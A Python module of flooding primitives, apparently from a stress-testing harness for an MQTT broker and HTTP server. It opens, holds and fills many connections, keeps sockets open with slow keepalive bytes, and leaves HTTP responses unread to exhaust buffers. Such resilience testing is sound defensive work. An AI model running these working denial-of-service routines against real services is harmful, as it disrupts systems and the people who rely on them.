"""What floods are made of: connections that are opened, kept, filled and forgotten, and a count of what came of it."""

import collections
import random
import socket
import threading
import time

import mqtt
import product

COUNT = collections.Counter()


class Target:
    def __init__(self, arguments):
        self.mqtt = address(arguments.mqtt)
        self.http = address(arguments.http)
        self.key = arguments.key
        self.client_ids = arguments.client_id
        self.until = time.time() + arguments.seconds

    @property
    def is_on(self):
        return time.time() < self.until


def address(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def hello(client_id=None, user="attacker", password=product.USERS["attacker"], **more):
    return mqtt.connect(client_id or f"a{random.getrandbits(48):x}", user, password, **more)


def opened(where, timeout_s=5.0):
    """A connected socket, or None when it is refused."""
    try:
        connection = socket.create_connection(where, timeout=timeout_s)
        COUNT["connections"] += 1
        return connection
    except OSError:
        COUNT["refused"] += 1
        time.sleep(0.02)
        return None


def discard(connection):
    """Reads and forgets, so that answers do not fill the buffers."""
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def send_all(where, target, first, chunks, name="sent"):
    """Sends `first` and then chunk after chunk, on a new connection whenever one is closed."""
    chunks = iter(chunks)
    while target.is_on:
        connection = opened(where)
        if connection is None:
            continue
        with connection:
            threading.Thread(target=discard, args=(connection,), daemon=True).start()
            try:
                connection.sendall(first() if callable(first) else first)
                while target.is_on:
                    connection.settimeout(max(0.1, target.until - time.time()))
                    messages, data = next(chunks)
                    connection.sendall(data)
                    COUNT[name] += messages
                    COUNT["bytes"] += len(data)
            except TimeoutError:
                return
            except OSError:
                COUNT["refused"] += 1
                time.sleep(0.02)


def together(count, work, *arguments):
    threads = [threading.Thread(target=work, args=arguments, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def keep_open(where, target, count, first=b"", later=b""):
    """Holds `count` connections open. `first` is sent on each at once, `later` every second."""
    held = []
    while target.is_on:
        for connection in list(held):
            try:
                connection.setblocking(False)
                if connection.recv(1 << 16) == b"":
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                COUNT["refused"] += 1
                held.remove(connection)
                connection.close()
                continue
            if later:
                try:
                    connection.send(later)
                except OSError:
                    pass
        while len(held) < count and target.is_on:
            connection = opened(where, 1.0)
            if connection is None:
                break
            held.append(connection)
            try:
                connection.sendall(first)
            except OSError:
                pass
        COUNT["held"] = max(COUNT["held"], len(held))
        time.sleep(1)


def keep_unread(target, count, request):
    """Asks over HTTP on `count` connections and never reads; counts how the answers begin."""
    held = []
    while len(held) < count and target.is_on:
        connection = opened(target.http)
        if connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.sendall(request)
            held.append(connection)
    COUNT["held"] = len(held)
    time.sleep(max(0, target.until - time.time()))
    for connection in held:
        try:
            connection.setblocking(False)
            COUNT[connection.recv(12).decode("latin-1")] += 1
        except OSError:
            COUNT["unanswered"] += 1
